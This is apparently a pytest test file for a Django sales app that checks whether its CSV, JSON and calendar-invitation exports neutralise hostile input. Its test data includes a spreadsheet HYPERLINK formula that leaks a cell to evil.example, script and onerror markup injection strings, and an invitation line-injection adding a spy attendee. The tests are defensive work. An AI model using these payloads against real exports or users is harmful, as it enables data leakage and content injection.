"""Every export a person can download — the dashboard's CSVs, an import's errors.csv, a lead's privacy
export (JSON) and a handoff's meeting invitation (.ics) — carrying hostile text typed into the fields
that feed it: CSV cells never start a formula, JSON never carries live markup, and an invitation's
lines stay the lines we wrote."""

import csv
import datetime
import io
import json
import re
from decimal import Decimal

import pytest
from django.utils import timezone

from cadences.models import Touch
from cadences.services import cadence_enroll
from handoffs.services import handoff_accept
from leads.models import ImportBatch, ImportRow
from tests.cadences.factories import CadenceFactory, add_steps
from tests.handoffs.factories import hand_off, make_lead
from tests.leads.factories import LeadFactory

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Open")',
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\uff1d1+1",
]
TEXT = ['<script>alert("x")</script>', 'Said "yes", then; no', "two\nlines\r\nthree"]
HOSTILE = FORMULAS + TEXT
NUMBER = re.compile(r"-?\d+(\.\d+)?")


def _csv_rows(response) -> list[list[str]]:
    text = b"".join(response.streaming_content).decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


def _starts_a_formula(cell: str) -> bool:
    if NUMBER.fullmatch(cell):
        return False
    return cell[:1] in ("\t", "\r", "\n") or cell.lstrip()[:1] in (
        "=",
        "+",
        "-",
        "@",
        "\uff1d",
        "\uff0b",
        "\uff0d",
        "\uff20",
    )


def _assert_safe_and_kept(rows: list[list[str]], typed: list[str]) -> None:
    cells = [cell for row in rows for cell in row]
    assert [cell for cell in cells if _starts_a_formula(cell)] == []
    for value in typed:
        if value in TEXT:
            assert any(value in cell for cell in cells), f"{value!r} missing from the export"
        else:
            assert any(cell.startswith("'" + value) for cell in cells), f"{value!r} missing or live"


@pytest.fixture
def hostile_team(actors):
    """A team whose people, cadence, steps and handoffs are named with hostile text, with enough
    activity in the current quarter that every dashboard table has rows."""
    actors.sdr.first_name, actors.sdr.last_name = FORMULAS[0], TEXT[0]
    actors.sdr.save(update_fields=["first_name", "last_name"])
    actors.ae.first_name, actors.ae.last_name = FORMULAS[1], TEXT[1]
    actors.ae.save(update_fields=["first_name", "last_name"])
    cadence = CadenceFactory(team=actors.team, name=FORMULAS[2])
    add_steps(cadence, ("email", 0, FORMULAS[3], TEXT[2]))
    lead = LeadFactory(team=actors.team, owner=actors.sdr)
    cadence_enroll(cadence=cadence, lead_ids=[lead.pk], by=actors.sdr)
    Touch.objects.filter(lead=lead).update(status="sent", completed_at=timezone.now(), subject=FORMULAS[3])
    for _ in range(2):
        handoff = hand_off(make_lead(actors.team, owner=actors.sdr), by=actors.sdr, ae=actors.ae)
    handoff_accept(handoff=handoff, by=actors.ae, amount=Decimal("5000"))
    return actors


@pytest.mark.parametrize("table", ["funnel", "leaderboard", "trends", "decisions", "coverage", "icp-fit"])
def test_dashboard_csvs_never_start_a_formula(hostile_team, api_for, table):
    response = api_for(hostile_team.manager).get(f"/api/metrics/{table}/export/?team={hostile_team.team.pk}")

    assert response.status_code == 200
    rows = _csv_rows(response)
    typed = {"leaderboard": [FORMULAS[0]], "decisions": [FORMULAS[1]]}.get(table, [])
    _assert_safe_and_kept(rows, typed)


def test_leaderboard_csv_keeps_hostile_names_as_text(hostile_team, api_for):
    rows = _csv_rows(
        api_for(hostile_team.manager).get(f"/api/metrics/leaderboard/export/?team={hostile_team.team.pk}")
    )

    names = [row[1] for row in rows[1:]]
    assert f"'{FORMULAS[0]} {TEXT[0]}" in names


def test_cadence_steps_csv_never_starts_a_formula(hostile_team, api_for):
    cadence = hostile_team.team.cadences.get()

    response = api_for(hostile_team.manager).get(f"/api/metrics/steps/export/?cadence={cadence.pk}")

    assert response.status_code == 200
    _assert_safe_and_kept(_csv_rows(response), [FORMULAS[2], FORMULAS[3]])


def test_import_errors_csv_never_starts_a_formula(actors, api_for):
    batch = ImportBatch.objects.create(
        team=actors.team, created_by=actors.sdr, owner=actors.sdr, file="imports/list.csv", status="done",
        columns=[FORMULAS[0], "Email"], mapping={"Email": "email"},
    )  # fmt: skip
    for number, value in enumerate(HOSTILE, start=2):
        ImportRow.objects.create(
            batch=batch, row_number=number, action="error", raw=[value, value],
            errors=[{"field": "email", "message": "Not an email address."}],
        )  # fmt: skip

    response = api_for(actors.sdr).get(f"/api/imports/{batch.pk}/errors.csv")

    assert response.status_code == 200
    rows = _csv_rows(response)
    assert rows[0] == ["'" + FORMULAS[0], "Email", "error"]
    _assert_safe_and_kept(rows, HOSTILE)


def test_a_lead_privacy_export_carries_hostile_text_inert_and_exact(actors, api_for):
    lead = LeadFactory(
        team=actors.team, owner=actors.sdr, first_name=TEXT[0], last_name=FORMULAS[0], title=TEXT[1],
        research_notes=TEXT[2], company="</script><img src=x onerror=alert(1)>",
    )  # fmt: skip

    response = api_for(actors.manager).get(f"/api/leads/{lead.pk}/export/")

    assert response.status_code == 200
    assert response["Content-Type"] == "application/json"
    body = response.content.decode("ascii")
    assert "<" not in body and ">" not in body
    exported = json.loads(body)["lead"]
    assert (exported["first_name"], exported["last_name"], exported["title"], exported["research_notes"]) == (
        TEXT[0], FORMULAS[0], TEXT[1], TEXT[2],
    )  # fmt: skip
    assert exported["company"] == "</script><img src=x onerror=alert(1)>"


ICS_PROPERTIES = {
    "BEGIN", "END", "VERSION", "PRODID", "CALSCALE", "METHOD", "UID", "SEQUENCE", "DTSTAMP", "DTSTART",
    "DTEND", "SUMMARY", "DESCRIPTION", "ORGANIZER", "ATTENDEE", "STATUS",
}  # fmt: skip


def _unescape(text: str) -> str:
    return re.sub(r"\\([\\;,nN])", lambda m: "\n" if m.group(1) in "nN" else m.group(1), text)


def test_a_meeting_invitation_keeps_its_lines_whatever_the_names_say(actors, api_for):
    injected = "\r\nATTENDEE:mailto:spy@evil.example\r\nX-INJECTED:1"
    actors.sdr.first_name = 'Kadri"' + injected
    actors.sdr.save(update_fields=["first_name"])
    lead = make_lead(actors.team, owner=actors.sdr, first_name="Eve" + injected, company=FORMULAS[0])
    handoff = hand_off(
        lead, by=actors.sdr, ae=actors.ae, meeting_at=timezone.now() + datetime.timedelta(days=2),
        notes=TEXT[0] + injected + "\rbare CR\nand; commas, too " + "é" * 60,
    )  # fmt: skip

    response = api_for(actors.ae).get(f"/api/handoffs/{handoff.pk}/meeting.ics")

    assert response.status_code == 200
    text = response.content.decode("utf-8")
    physical = text.split("\r\n")
    assert physical[-1] == ""
    assert all(len(line.encode()) <= 75 for line in physical)
    assert "\r" not in "".join(physical) and "\n" not in "".join(physical)
    lines = text.replace("\r\n ", "").split("\r\n")[:-1]
    names = [re.split(r"[;:]", line, maxsplit=1)[0] for line in lines]
    assert set(names) <= ICS_PROPERTIES
    assert names.count("ATTENDEE") == 1 and names.count("ORGANIZER") == 1
    assert "spy@evil.example" not in next(line for line in lines if line.startswith("ATTENDEE"))
    description = _unescape(
        next(line for line in lines if line.startswith("DESCRIPTION:"))[len("DESCRIPTION:") :]
    )
    assert (
        TEXT[0] + "\nATTENDEE:mailto:spy@evil.example\nX-INJECTED:1\nbare CR\nand; commas, too "
        in description
    )
